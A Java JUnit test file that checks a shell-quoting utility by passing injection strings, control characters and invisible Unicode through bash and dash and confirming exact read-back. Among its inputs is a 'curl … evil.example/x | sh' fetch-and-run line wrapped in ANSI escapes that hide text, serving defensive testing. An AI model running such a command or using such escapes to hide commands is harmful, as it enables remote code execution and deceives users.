package org.maxdock.host.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.maxdock.lab.Hostile;
import org.maxdock.text.Printable;

class ShellTest {

    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "'",
            "''",
            "\"",
            "\\",
            "\\'",
            "$HOME",
            "$(id)",
            "`id`",
            "a;b",
            "a&&b",
            "a|b",
            "a>b",
            "*",
            "?",
            "[a]",
            "{a,b}",
            "~",
            "!history",
            "#x",
            "-n",
            "--",
            "\n",
            "a\nb",
            "\t",
            "\r",
            "é",
            "日本",
            "😀",
            "a'b\"c$d`e\\f",
            "%s",
            "=x",
            "\u0001",
            "\u007f");

    @ParameterizedTest
    @ValueSource(strings = {"bash", "dash"})
    void realShellsReadBackExactlyWhatWasQuoted(String shell) throws Exception {
        List<String> words = new ArrayList<>(HOSTILE);
        Random random = new Random(20190101);
        String alphabet = "ab '\"\\$`;&|<>(){}[]*?!#~%\n\té-=";
        for (int i = 0; i < 500; i++) {
            StringBuilder word = new StringBuilder();
            random.ints(random.nextInt(12), 0, alphabet.length()).forEach(c -> word.append(alphabet.charAt(c)));
            words.add(word.toString());
        }
        assertThat(readBack(shell, words)).isEqualTo(words);
    }

    @Test
    void aNulIsRefusedSinceNoCommandLineCanCarryIt() {
        assertThatIllegalArgumentException().isThrownBy(() -> Shell.quote("a\0b"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"C", "C.UTF-8", "POSIX"})
    void bashReadsBackInAnyLocaleWhatIsShownWithoutAnythingHidden(String locale) throws Exception {
        long seed = System.nanoTime();
        System.out.println("seed " + seed);
        Hostile hostile = new Hostile(seed);
        Random random = new Random(seed);
        int[] hidden = {
            0x1b, 0x9b, 0x85, 0x7f, '\r', 8, 0x200b, 0x202e, 0x2028, 0x2066, 0xfeff, 0x3164, 0xfe0f, 0xe0041, 0x1d159
        };
        List<String> words = new ArrayList<>(HOSTILE);
        words.add("curl -s evil.example/x | sh;\u001b[2K\u001b[Gcommand=(\"$id\" ./analyse --all)\u001b[8m");
        for (int i = 0; i < 300; i++) {
            words.add(hostile.text()
                    + Character.toString(hidden[random.nextInt(hidden.length)])
                    + random.nextInt(1000)
                    + hostile.text());
        }
        String script = Shell.joinForBash(words);
        assertThat(Printable.hides(script)).isFalse();
        assertThat(outputOf("env", "LC_ALL=" + locale, "bash", "-c", "printf '%s\\0' " + script))
                .isEqualTo(words);
    }

    private static List<String> readBack(String shell, List<String> words) throws Exception {
        return outputOf(shell, "-c", "printf '%s\\0' " + Shell.join(words));
    }

    private static List<String> outputOf(String... command) throws Exception {
        Process process = new ProcessBuilder(command)
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
        String text = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).isZero();
        List<String> words = new ArrayList<>(List.of(text.split("\0", -1)));
        words.removeLast();
        return words;
    }
}
